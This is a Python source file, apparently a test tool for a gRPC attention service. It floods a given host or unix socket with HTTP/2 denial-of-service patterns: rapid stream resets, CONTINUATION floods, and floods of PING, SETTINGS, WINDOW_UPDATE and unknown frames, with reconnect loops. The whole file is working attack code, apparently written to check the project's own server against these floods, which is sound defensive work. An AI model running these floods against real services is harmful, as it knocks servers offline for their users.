"""Clients that flood the server with frames of HTTP/2, as fast as they can. Run as a program, it floods for
some seconds: FLOOD CONNECTIONS SECONDS TARGET PAUSE [STREAMS]. So many seconds after a connection is cut off,
or is refused, it makes another. With STREAMS, a connection sends so many of them and is closed at once."""

import contextlib
import select
import socket
import ssl
import struct
import sys
import time

import numpy as np

from raw_http2 import ACK, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, frame, literal

RST_STREAM, PING, WINDOW_UPDATE, CONTINUATION, UNKNOWN_TYPE = 3, 6, 8, 9, 0x20
ATTEND = b"/flashcore.v1.AttentionService/Attend"
ATTEND_STREAM = b"/flashcore.v1.AttentionService/AttendStream"
HEALTH = b"/grpc.health.v1.Health/Check"
UNKNOWN = b"/no.Such/Method"
HANDSHAKE = PREFACE + frame(SETTINGS, 0, 0, b"")
SETTINGS_ACK = frame(SETTINGS, ACK, 0, b"")
CANCEL = (8).to_bytes(4, "big")
MARK = 0x01020304  # a number of a stream, to be replaced
AT_ONCE = 1000  # streams

# The fields of a call, which the first one adds to the table of both sides (RFC 7541), and how others then
# name them.
FIELDS = (b":authority", b"test"), (b"content-type", b"application/grpc"), (b"te", b"trailers")
POST_HTTP = b"\x83\x86"


def first_headers(path):
    indexed = b"".join(b"\x40" + literal(*field)[1:] for field in ((b":path", path), *FIELDS))
    return POST_HTTP + indexed


NEXT_HEADERS = POST_HTTP + b"\xc1\xc0\xbf\xbe"


def begin(stream, message):
    """Begins a call, which `message` completes."""
    whole = frame(DATA, END_STREAM, stream, b"\0\0\0\0\0") if message else b""
    return frame(HEADERS, END_HEADERS, stream, NEXT_HEADERS) + whole


def reset(stream, message):
    return begin(stream, message) + frame(RST_STREAM, 0, stream, CANCEL)


def on_streams(unit, first, count):
    """The frames that `unit`, a function, makes of `count` streams from `first` on."""
    marked = unit(MARK)
    frames = np.tile(np.frombuffer(marked, np.uint8), (count, 1))
    numbers = (first + 2 * np.arange(count, dtype=np.uint32)).astype(">u4")
    at = marked.find(MARK.to_bytes(4, "big"))
    while at >= 0:
        frames[:, at:at + 4] = numbers.view(np.uint8).reshape(count, 4)
        at = marked.find(MARK.to_bytes(4, "big"), at + 4)
    return frames.tobytes()


def continuations():
    fields = b"".join(literal(b"k%06d" % i, b"v" * 100) for i in range(140))
    return frame(CONTINUATION, 0, 1, fields) * 16


class Flood:
    """`acknowledged`: the client acknowledges the server's settings first. It then sends headers of a call of
    `path`, which are complete if `flags` say so. `unit`: what it sends on each of the other streams; None: on
    no other, but `again`, again and again."""

    def __init__(self, path, unit=None, acknowledged=True, flags=END_HEADERS, again=b""):
        self.acknowledged, self.unit, self.again = acknowledged, unit, again
        self.first = frame(HEADERS, flags, 1, first_headers(path))
        self._chunks = {}

    def chunk(self, first):
        """The frames from stream `first` on."""
        if self.unit is None:
            return self.again
        if first not in self._chunks and len(self._chunks) < 50:
            self._chunks[first] = on_streams(self.unit, first, AT_ONCE)
        return self._chunks.get(first) or on_streams(self.unit, first, AT_ONCE)


FLOODS = {
    "reset": Flood(ATTEND, lambda stream: reset(stream, message=True)),
    "reset_early": Flood(ATTEND, lambda stream: reset(stream, message=False)),
    "reset_stream": Flood(ATTEND_STREAM, lambda stream: reset(stream, message=False)),
    "reset_health": Flood(HEALTH, lambda stream: reset(stream, message=True)),
    "reset_unknown": Flood(UNKNOWN, lambda stream: reset(stream, message=True)),
    "unacknowledged": Flood(ATTEND_STREAM, lambda stream: begin(stream, message=False),
                            acknowledged=False),
    "continuation": Flood(ATTEND, acknowledged=False, flags=0, again=continuations()),
}
# Those that are cut off only if the server does not keep up with them.
FRAME_FLOODS = {
    "unknown_frames": Flood(ATTEND, again=frame(UNKNOWN_TYPE, 0, 0, bytes(64)) * 2000),
    "window_updates": Flood(ATTEND, again=frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 2000),
    "settings": Flood(ATTEND, again=frame(SETTINGS, 0, 0, b"") * 2000),
    "pings": Flood(ATTEND, again=frame(PING, 0, 0, bytes(8)) * 2000),
}
ALL_FLOODS = {**FLOODS, **FRAME_FLOODS}


class FloodingConnection:
    """One of `flood`, on `connection`, which is connected."""

    def __init__(self, flood, connection):
        self.connection, self._flood, self._stream = connection, flood, 3
        connection.sendall(HANDSHAKE)
        if flood.acknowledged:
            connection.recv(65536)  # the server's settings
            connection.sendall(SETTINGS_ACK)
        connection.sendall(flood.first)
        self._left = b""

    def step(self, readable):
        """Reads, or sends what can be sent. False if the server has ended the connection."""
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            try:
                if readable and not self.connection.recv(65536):
                    return False
                if not self._left:
                    self._left = memoryview(self._flood.chunk(self._stream))
                    self._stream += 2 * AT_ONCE
                self._left = self._left[self.connection.send(self._left):]
            except ConnectionError:
                return False
        return True


def connect(target):
    """To "unix:path" or "host:port"."""
    if target.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(target.removeprefix("unix:"))
        return connection
    host, port = target.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=60)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return connection


def come_and_go(flood, count, end, target, pause, streams):
    chunk = on_streams(flood.unit, 3, streams)
    while time.monotonic() < end:
        with contextlib.ExitStack() as stack:
            for _ in range(count):
                with contextlib.suppress(OSError):
                    connection = stack.enter_context(connect(target))
                    FloodingConnection(flood, connection)
                    connection.sendall(chunk)
        time.sleep(pause)


def main():
    flood, count, seconds, target = ALL_FLOODS[sys.argv[1]], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
    pause = float(sys.argv[5])
    end = time.monotonic() + seconds
    if len(sys.argv) > 6:
        return come_and_go(flood, count, end, target, pause, int(sys.argv[6]))
    floods, due = {}, [0] * count  # when to connect
    while (now := time.monotonic()) < end:
        for again in [time_due for time_due in due if time_due <= now]:
            due.remove(again)
            try:
                connection = connect(target)
                floods[connection] = FloodingConnection(flood, connection)
                connection.setblocking(False)
            except OSError:
                due.append(now + pause)
        readable, writable, _ = select.select(floods, floods, [], 0.05)
        for connection in {*readable, *writable}:
            if not floods[connection].step(connection in readable):
                connection.close()
                del floods[connection]
                due.append(now + pause)


if __name__ == "__main__":
    main()
